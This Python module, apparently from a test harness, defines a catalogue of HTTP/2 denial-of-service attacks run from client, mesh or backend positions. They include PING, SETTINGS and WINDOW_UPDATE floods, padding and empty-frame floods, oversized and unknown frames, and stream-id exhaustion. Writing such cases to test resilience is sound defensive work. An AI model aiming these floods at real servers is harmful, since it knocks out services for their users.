"""Control frames and empty frames by the million: A07, A08, A10, A13, A14, A19, A20, A22, A23."""

import struct

from messages import HELD, RESPONSE, request
from wire import (
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PADDED,
    PING,
    PRIORITY,
    PUSH,
    Attack,
    frame,
    reset,
    settings,
    window,
)

EVERYWHERE = ("client", "mesh", "backend")
BATCH = 50


class Flood(Attack):
    """The same frames again and again, beside `streams` held requests."""

    positions = EVERYWHERE
    bytes_factor = 10

    def __init__(self, make, reads=True, streams=0, positions=EVERYWHERE):
        self.make = make
        self.reads = reads
        self.small_buffers = not reads
        self.streams = streams
        self.positions = positions

    def begin(self, peer):
        if peer.is_server:
            return frame(HEADERS, END_HEADERS, peer.state["requested"], RESPONSE)
        return b"".join(request(peer.open_stream(), HELD) for _ in range(self.streams))

    def step(self, peer):
        stream = peer.state["requested"] if peer.is_server else 1
        return b"".join(self.make(stream, peer.steps * BATCH + index) for index in range(BATCH))


def ping(_stream, count):
    return frame(PING, 0, 0, struct.pack("!Q", count))


def priority(_stream, count):
    return frame(PRIORITY, 0, 1 + 2 * (count % 5000), struct.pack("!IB", 0, count & 255))


def flap(_stream, count):
    return settings({4: 65535 if count & 1 else 1})


def padding(stream, _count):
    return frame(DATA, PADDED, stream, b"\xffx" + bytes(255))


def goaway(_stream, _count):
    return frame(GOAWAY, 0, 0, struct.pack("!II", 2**31 - 1, 0) + b"again" * 20)


class StreamIdsUsedUp(Attack):
    """A jump to the last stream id, then one more request."""

    def begin(self, peer):
        peer.next_stream = 2**31 - 1
        return request(peer.open_stream(), HELD)

    def step(self, peer):
        return request(1, HELD) * BATCH


class BackendGoaway(Attack):
    """A backend that says GOAWAY with the highest id, again and again, and finishes nothing."""

    positions = ("backend",)

    def on_request(self, peer, stream):
        return goaway(stream, 0)

    def step(self, peer):
        return goaway(0, 0) * BATCH


ATTACKS = {
    "A07 ping-flood": Flood(ping),
    "A07 ping-flood-unread": Flood(ping, reads=False),
    "A07 ping-ack-flood": Flood(lambda _stream, count: frame(PING, 1, 0, struct.pack("!Q", count))),
    "A07 goaway-flood": Flood(goaway),
    "A08 priority-churn": Flood(priority, streams=1),
    "A10 settings-flapping": Flood(flap, streams=100),
    "A10 settings-flood-unread": Flood(lambda _stream, _count: settings({}), reads=False),
    "A10 settings-ack-flood": Flood(lambda _stream, _count: frame(4, 1)),
    "A13 empty-data": Flood(lambda stream, _count: frame(DATA, 0, stream), streams=1),
    "A13 tiny-data": Flood(lambda stream, _count: frame(DATA, 0, stream, b"x"), streams=1),
    "A14 padding": Flood(padding, streams=1),
    "A14 all-padding": Flood(lambda stream, _count: frame(DATA, PADDED, stream, b"\xff" + bytes(255)), streams=1),
    "A19 stream-ids": StreamIdsUsedUp(),
    "A19 backend-goaway": BackendGoaway(),
    "A20 unknown-frames": Flood(lambda _stream, count: frame(0x40 + count % 100, 0, 0, b"")),
    "A20 large-unknown-frames": Flood(lambda _stream, _count: frame(0x99, 0, 0, bytes(16384))),
    "A20 oversized-frame": Flood(lambda _stream, _count: b"\xff\xff\xff\x99\0\0\0\0\0" + bytes(65536)),
    "A20 unknown-settings": Flood(lambda _stream, count: settings({0x1000 + count % 100: count})),
    "A22 push-promise": Flood(
        lambda stream, count: frame(PUSH, END_HEADERS, stream, struct.pack("!I", 2 + 2 * count) + HELD), streams=1
    ),
    "A22 altsvc": Flood(lambda _stream, count: frame(0xA, 0, 0, b"\0\5h.com" + b'h2="x:%d"' % count)),
    "A22 origin": Flood(lambda _stream, count: frame(0xC, 0, 0, b"\0\x12https://%09d.com" % count)),
    "A23 window-updates": Flood(lambda _stream, _count: window(0, 1)),
    "A23 window-updates-stream": Flood(lambda stream, _count: window(stream, 1), streams=1),
    "A23 late-frames": Flood(
        lambda _stream, _count: reset(1) + window(1, 1), streams=1, positions=("client", "mesh")
    ),
}
